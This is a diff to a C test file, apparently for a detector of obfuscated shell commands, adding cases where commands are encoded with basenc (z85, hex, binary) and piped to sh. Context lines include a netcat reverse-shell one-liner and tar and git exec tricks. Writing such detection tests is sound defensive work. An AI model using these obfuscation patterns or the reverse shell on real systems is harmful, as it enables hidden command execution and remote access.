@@ -21,6 +21,17 @@ static const struct hidden good[] = {
 		"tar cf x y --checkpoint-action=exec=\"echo 'sl;di'|rev|sh\"" },
 	{ "reverse", "id;ls",
 		"x=rev;git -c alias.y=\"!echo 'sl;di'|$x|sh\" y" },
+	/* The bases of basenc. */
+	{ "ascii85", "id; uname -a > /tmp/.z  ",
+		"basenc --z85 -d <<'Q' | sh\nx>fpFB-7S8wGSNkau*]3BzU$Ie{XS.\n"
+		"Q" },
+	{ "hex", "id;w", "basenc --base16 -d <<<69643B77|sh" },
+	{ "binary", "id;w",
+		"basenc -d --base2msbf "
+		"<<<01101001011001000011101101110111|sh" },
+	{ "binary", "id;w",
+		"basenc --base2lsbf -d "
+		"<<<10010110001001101101110011101110|sh" },
 	/* What matches, a line each. */
 	{ "grep+tr+base64",
 		"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc "
@@ -262,6 +273,7 @@ static const struct hidden good[] = {
 /* Text that is reshaped and given to no interpreter, and what nobody knows. */
 static const char *const not [] = { "t=curl; $t -o /tmp/x$t h",
 	"for t in curl wget; do $t --version; done",
+	"basenc --z85 <<<'id; uname -a'|sh",
 	/* Of lines that are picked nothing is hidden, and of other patterns
 	 * nobody knows. */
 	"printf 'make all\\n#x\\nmake test\\n'|grep -v '#'|sh",
